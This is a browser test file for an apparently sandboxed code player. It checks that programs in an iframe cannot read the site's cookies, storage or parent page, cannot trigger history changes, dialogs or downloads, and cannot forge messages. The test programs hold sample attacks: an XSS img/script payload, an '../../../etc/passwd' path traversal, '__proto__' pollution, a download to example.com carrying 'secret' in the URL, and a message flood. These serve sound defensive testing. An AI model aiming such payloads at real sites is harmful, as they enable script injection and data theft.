import {test} from '../fixtures';
import {
  expectUsable,
  fault,
  frameOf,
  lines,
  PATH,
  player,
  runLinked,
} from './linked';
import {expect, visit} from './player';

// The browser reports each attempt that it refuses.
test.use({allowed: {errors: [/./]}});

test('a program has nothing of the site’s origin', async ({page}) => {
  await visit(page, '');
  const found = await page.evaluate(async () => {
    document.cookie = 'secret=cookie; path=/';
    localStorage.setItem('secret', 'local');
    sessionStorage.setItem('secret', 'session');
    const cache = await caches.open('secret');
    await cache.put('/secret', new Response('cached'));
    await new Promise<void>((resolve, reject) => {
      const request = indexedDB.open('secret', 1);
      request.onupgradeneeded = () =>
        request.result.createObjectStore('secret');
      request.onsuccess = () => resolve();
      request.onerror = () => reject(new Error('no database'));
    });
    return [
      document.cookie,
      localStorage.secret as string,
      (await caches.keys()).join(),
      (await indexedDB.databases()).map(({name}) => name).join(),
    ].join(' ');
  });
  for (const part of ['secret=cookie', 'local', 'secret']) {
    expect(found).toContain(part);
  }

  await runLinked(
    page,
    `const ways = {
  origin: () => self.origin,
  cookie: () => document.cookie,
  cookieStore: async () => JSON.stringify(await cookieStore.getAll()),
  local: () => localStorage.secret,
  session: () => sessionStorage.secret,
  database: async () => JSON.stringify(await indexedDB.databases()),
  open: () => indexedDB.open('secret'),
  cache: async () => JSON.stringify(await caches.keys()),
  folder: () => navigator.storage.getDirectory(),
  worker: () => navigator.serviceWorker.register('/sw.js'),
  shared: () => new SharedWorker('/shared.js'),
  channel: () => new Promise((resolve, reject) => {
    const channel = new BroadcastChannel('secret');
    channel.onmessage = ({data}) => resolve(data);
    setTimeout(() => reject(new Error('silence')), 1500);
  }),
  parent: () => parent.document.title,
  page: () => parent.parent.document.title,
  write: () => parent.document.write('words'),
  top: () => top.localStorage.secret,
  element: () => String(frameElement),
  opener: () => String(opener),
  store: () => { document.cookie = 'planted=1'; return document.cookie; },
};
async function tryAll() {
  for (const [name, act] of Object.entries(ways)) {
    try {
      console.log(name + ' gave ' + await act());
    } catch (error) {
      console.log(name + ' refused');
    }
  }
  console.log('all tried');
}
tryAll();
export default () => null;`,
  );
  await page.evaluate(() => {
    const channel = new BroadcastChannel('secret');
    setInterval(() => channel.postMessage('broadcast'), 100);
  });
  await expect(lines(page)).toContainText('all tried');
  const gave = (await lines(page).innerText())
    .split('\n')
    .filter((line) => line.includes(' gave '));
  expect(gave).toEqual([
    'origin gave null',
    'element gave null',
    'opener gave null',
  ]);
  expect(await page.evaluate(() => document.cookie)).not.toContain('planted');
});

test(
  'a program moves no history, opens nothing, saves nothing',
  {tag: '@full'},
  async ({page}) => {
    const opened: string[] = [];
    page.on('dialog', (dialog) => {
      opened.push(dialog.type());
      void dialog.dismiss();
    });
    page.on('download', () => opened.push('download'));
    await visit(page, '');
    await runLinked(
      page,
      `const link = document.createElement('a');
link.href = URL.createObjectURL(new Blob(['words']));
link.download = 'words.txt';
document.body.append(link);
for (const act of [
  () => history.back(),
  () => history.go(-1),
  () => alert('words'),
  () => confirm('words'),
  () => prompt('words'),
  () => print(),
  () => link.click(),
  () => document.documentElement.requestFullscreen(),
]) {
  try { act(); } catch {}
}
setTimeout(() => { history.back?.(); console.log('all tried'); }, 500);
export default () => null;`,
    );
    await expect(lines(page)).toContainText('all tried');
    await page.waitForTimeout(1_000);
    expect(page.url()).toContain(PATH);
    expect(opened).toEqual([]);
    await expectUsable(page);
    // The way back was there.
    await page.goBack();
    expect(page.url()).not.toContain(PATH);
  },
);

test(
  'what a program sends is text, cut, and nothing more',
  {tag: '@full'},
  async ({page}) => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await runLinked(
      page,
      `const session = location.hash.slice(1);
const send = (message) => top.postMessage({protocol: 'playtorch-player/1', session, ...message}, '*');
const html = '<img src="x" onerror="window.owned = 1"><script>window.owned = 1<' + '/script>';
console.log(html);
send({type: 'console', level: 'log', text: 'forged ' + html});
send({type: 'console', level: 'log', text: 'long ' + 'x'.repeat(1000000)});
send({type: 'console', level: 'dangerous', text: 'of no level'});
send({type: 'error', message: html, place: {file: '../../x', line: 'one'}});
send({type: 'ask', id: 101, service: 'file', args: {name: '../../../etc/passwd'}});
send({type: 'ask', id: 102, service: '__proto__', args: {}});
send({type: 'ask', id: 103, service: 'constructor', args: {}});
send({type: 'ask', id: 104, service: 'file', args: {name: 'x', more: 1}});
send({type: 'ask', id: -1, service: 'file', args: null});
send({type: 'run', project: {}});
send({type: 'answer', id: 101, value: 1});
top.postMessage({protocol: 'playtorch-player/1', session: 'another', type: 'console', level: 'log', text: 'of another session'}, '*');
top.postMessage(JSON.parse('{"__proto__": {"owned": 1}}'), '*');
top.postMessage('playtorch-player/1', '*');
addEventListener('message', ({data}) => {
  if (data.type === 'refusal') console.log('refused ' + data.id + ': ' + data.message);
  if (data.type === 'answer') console.log('answered ' + data.id);
});
import * as FileSystem from 'expo-file-system';
FileSystem.downloadAsync('https://example.com/?secret', FileSystem.cacheDirectory + 'x')
  .catch((error) => console.log('download: ' + error.message))
  .then(() => console.log('all tried'));
export default () => null;`,
    );
    await expect(lines(page)).toContainText('all tried');
    const said = await lines(page).innerText();
    expect(said).toContain('forged <img src="x" onerror="window.owned = 1">');
    expect(said).toContain('download: Programs in the page download nothing');
    expect(said).toContain(
      'refused 101: This page has no file ../../../etc/passwd',
    );
    expect(said).toContain(
      'refused 104: The program asked for file in a wrong way.',
    );
    for (const never of [
      'of no level',
      'of another session',
      'answered',
      'refused 102',
      'refused 103',
    ]) {
      expect(said).not.toContain(never);
    }
    expect(said.length).toBeLessThan(15_000);
    await expect(fault(page)).toContainText('<img src="x"');
    await expect(player(page).locator('img, script')).toHaveCount(0);
    expect(
      await page.evaluate(() => [
        (window as unknown as {owned?: unknown}).owned,
        ({} as {owned?: unknown}).owned,
      ]),
    ).toEqual([undefined, undefined]);
    expect(asked.filter((url) => url.includes('example.com'))).toEqual([]);
    await expectUsable(page);
  },
);

test(
  'a flood of messages ends the program, not the page',
  {tag: '@full'},
  async ({page}) => {
    await runLinked(
      page,
      `const message = {protocol: 'playtorch-player/1', session: location.hash.slice(1), type: 'beat'};
setInterval(() => {
  for (let count = 0; count < 100000; count++) top.postMessage(message, '*');
}, 1);
export default () => null;`,
    );
    await expect(player(page)).toContainText(
      'sent more messages than a page can take and was stopped',
    );
    await expect(frameOf(page)).toHaveCount(0);
    await expectUsable(page);
  },
);
